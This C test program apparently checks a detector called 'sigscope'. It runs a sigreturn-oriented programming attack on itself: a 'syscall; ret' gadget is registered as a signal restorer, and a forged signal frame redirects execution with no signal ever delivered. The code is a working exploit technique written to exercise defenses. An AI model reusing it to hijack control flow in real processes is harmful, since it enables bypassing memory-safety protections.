/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_restorer_gadget: a `syscall; ret` gadget registered as a restorer. A raw rt_sigaction
 * syscall installs, for SIGUSR2 (never raised), a handler with SA_RESTORER and sa_restorer = a
 * `syscall; ret` gadget in this program's text (no `mov $15, %eax` in front of it). Then classic
 * SROP: no signal is delivered; a fake frame on the stack has pretcode = the gadget; with
 * eax = 15 set by the attacker and rsp at the frame, `ret` pops the gadget, whose syscall is
 * rt_sigreturn. The kernel loads the forged context: rip = mal_pwned, rsp = a scratch area on
 * this stack.
 *
 * Why it works against a call-site check that trusts every registered sa_restorer: the syscall
 * lies exactly at a restorer in sighand->action[]. A call site counts only if its bytes are a
 * sigreturn stub (`mov $15, %eax|%rax; syscall`).
 *
 * Expected from sigscope: forged_frame (critical: nothing was delivered) and wrong_call_site
 * (high: the call site is not a sigreturn stub, registered or not).
 */
#include "mal.h"

extern const char restorer_gadget[];
__asm__(".text\n"
	".globl restorer_gadget\n"
	".type restorer_gadget, @function\n"
	"restorer_gadget:\n\t"
	"syscall\n\t"
	"ret\n\t"
	".size restorer_gadget, . - restorer_gadget\n");

#ifndef SA_RESTORER
#define SA_RESTORER 0x04000000
#endif

/* The kernel's struct sigaction for rt_sigaction on x86_64 (no libc rewriting of the restorer). */
struct k_sigaction {
	void (*handler)(int);
	unsigned long flags;
	const void *restorer;
	uint64_t mask;
};

static void never_called(int sig)
{
	(void)sig;
}

int main(void)
{
	struct k_rt_sigframe64 frame __attribute__((aligned(16)));
	struct k_sigaction ka = {
	    .handler = never_called, .flags = SA_RESTORER, .restorer = restorer_gadget, .mask = 0};
	struct k_sigaction old;
	static volatile char sink;
	char scratch[16384] __attribute__((aligned(16)));
	uint64_t new_rsp = ((uint64_t)(scratch + sizeof(scratch)) & ~15ull) - 8;

	mal_init("srop_restorer_gadget", 10);
	if (syscall(SYS_rt_sigaction, SIGUSR2, &ka, NULL, 8) ||
	    syscall(SYS_rt_sigaction, SIGUSR2, NULL, &old, 8))
		mal_die(MAL_EXIT_SETUP, "rt_sigaction");
	if (old.restorer != restorer_gadget || !(old.flags & SA_RESTORER)) {
		mal_say("the kernel did not keep the gadget as SIGUSR2's restorer");
		return MAL_EXIT_SETUP;
	}
	mal_fill_context(&frame, (uint64_t)mal_pwned, new_rsp);
	frame.pretcode = (uint64_t)restorer_gadget;
	scratch[0] = sink;
	mal_say("gadget %p registered as SIGUSR2's restorer; forged frame at %p, rip %p, rsp %#lx",
		(void *)restorer_gadget, (void *)&frame, (void *)mal_pwned, (unsigned long)new_rsp);
	/* rsp = &frame: ret pops the gadget and leaves rsp at frame + 8; eax = rt_sigreturn. */
	__asm__ volatile("mov %0, %%rsp\n\t"
			 "mov $15, %%eax\n\t"
			 "ret\n\t"
			 :
			 : "r"(&frame)
			 : "memory", "rax");
	__builtin_unreachable();
}
